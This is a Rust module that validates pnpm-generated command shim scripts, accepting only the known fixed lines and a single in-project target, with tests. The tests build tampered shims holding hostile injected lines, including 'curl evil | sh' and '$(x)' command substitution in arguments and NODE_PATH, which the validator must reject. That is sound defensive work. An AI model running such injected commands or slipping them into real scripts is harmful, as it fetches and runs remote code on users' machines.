//! The small shell scripts that pnpm writes for commands (`@zkochan/cmd-shim`), line by line: what they
//! start, and that they do nothing else.

use super::discover::followed;
use std::path::Path;

/// Lines that say nothing of their own.
const FIXED: [&str; 17] = [
    "",
    "#!/bin/sh",
    "basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")",
    "case `uname` in",
    "*CYGWIN*) basedir=`cygpath -w \"$basedir\"`;;",
    "*CYGWIN*|*MINGW*|*MSYS*)",
    "*CYGWIN*|*MINGW*|*MSYS*) basedir=`cygpath -w \"$basedir\"`;;",
    "if command -v cygpath > /dev/null 2>&1; then",
    "basedir=`cygpath -w \"$basedir\"`",
    ";;",
    "esac",
    "if [ -z \"$NODE_PATH\" ]; then",
    "else",
    "fi",
    "exit $?",
    "ret=$?",
    "exit $ret",
];

/// The file that a script starts: a path from the project.
///
/// # Errors
/// What is wrong with it.
pub(super) fn target(text: &str, path: &str, project: &Path) -> Result<String, &'static str> {
    let mut found: Option<&str> = None;
    for (number, line) in text.lines().enumerate() {
        let line = line.trim();
        if number == 0 && line != "#!/bin/sh" {
            return Err("it is no script that a manager writes");
        }
        // A comment, which says nothing to a shell.
        if FIXED.contains(&line) || line.starts_with("# ") {
            continue;
        }
        if let Some(value) =
            line.strip_prefix("export NODE_PATH=\"").and_then(|rest| rest.strip_suffix('"'))
        {
            searched(value, project)?;
        } else if let Some(started) = started(line) {
            if found.replace(started).is_some_and(|other| other != started) {
                return Err("it starts two files");
            }
        } else if !is_test(line) {
            return Err("it does something that no manager writes");
        }
    }
    let started = found.ok_or("it starts nothing")?;
    followed(project, path, started).ok_or("it leads out of the project")
}

/// `if [ -x "$basedir/node" ]; then`
fn is_test(line: &str) -> bool {
    let inside = line.strip_prefix("if [ -x \"$basedir/");
    inside.and_then(|rest| rest.strip_suffix("\" ]; then")).is_some_and(is_word)
}

/// `exec node  "$basedir/../eslint/bin/eslint.js" "$@"`, or without a program before it.
fn started(line: &str) -> Option<&str> {
    let line = line.strip_suffix("\"$@\"")?.trim_end();
    let line = line.strip_prefix("exec ").unwrap_or(line).trim_start();
    let (before, file) = line.strip_suffix('"')?.rsplit_once("\"$basedir/")?;
    let before = before.trim();
    // Programs and their options, as the first line of the file names them.
    let program = before.strip_prefix("\"$basedir/").map_or(before, |rest| rest);
    let program = program.replacen('"', "", 1);
    let fits = program.split_ascii_whitespace().all(is_word);
    (fits && is_path(file)).then_some(file)
}

/// The folders that Node searches besides: each is a `node_modules` of this project, or is not there.
fn searched(value: &str, project: &Path) -> Result<(), &'static str> {
    let wrong = Err("it lets Node search elsewhere");
    for folder in value.split(':').filter(|folder| *folder != "$NODE_PATH") {
        let named = folder.ends_with("/node_modules") && folder.starts_with('/');
        if !named || !is_path(folder) {
            return wrong;
        }
        let elsewhere = Path::new(folder).canonicalize().is_ok_and(|folder| {
            !project.canonicalize().is_ok_and(|project| folder.starts_with(project))
        });
        if elsewhere {
            return wrong;
        }
    }
    Ok(())
}

fn is_word(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.=/".contains(&byte))
}

/// A path in double quotes that a shell takes as it is.
fn is_path(text: &str) -> bool {
    !text.is_empty() && !text.contains(['"', '$', '`', '\\', '\n'])
}

#[cfg(test)]
mod tests {
    use super::*;

    const SHIM: &str = "#!/bin/sh
basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")

case `uname` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=`cygpath -w \"$basedir\"`
        fi
    ;;
esac

if [ -z \"$NODE_PATH\" ]; then
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules\"
else
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules:$NODE_PATH\"
fi
if [ -x \"$basedir/node\" ]; then
  exec \"$basedir/node\"  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
else
  exec node  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
fi
";

    fn read(text: &str) -> Result<String, &'static str> {
        target(text, "node_modules/.bin/eslint", Path::new("/nowhere/app"))
    }

    #[test]
    fn what_a_script_of_pnpm_starts_is_told() {
        assert_eq!(read(SHIM).as_deref(), Ok("node_modules/eslint/bin/eslint.js"));
        let direct = "#!/bin/sh\nexec \"$basedir/../a/run\"  \"$@\"\n";
        assert_eq!(read(direct).as_deref(), Ok("node_modules/a/run"));
    }

    #[test]
    fn a_script_that_does_more_is_told() {
        for (from, to) in [
            ("exec node  \"$basedir/../eslint", "exec node  \"$basedir/../evil"),
            ("exec node ", "exec node -r$(x) "),
            ("exec node ", "curl evil; exec node "),
            ("../eslint/bin/eslint.js\" \"$@\"\nelse", "../`x`/eslint.js\" \"$@\"\nelse"),
            (":$NODE_PATH", ":/tmp/$(x)/node_modules"),
            ("/nowhere/app/node_modules/.pnpm/node_modules\"", "/tmp\""),
            ("esac\n", "esac\ncurl evil | sh\n"),
            ("#!/bin/sh", "#!/bin/bash"),
        ] {
            let changed = SHIM.replacen(from, to, 1);
            assert_ne!(changed, SHIM);
            assert!(read(&changed).is_err(), "{to}");
        }
    }
}
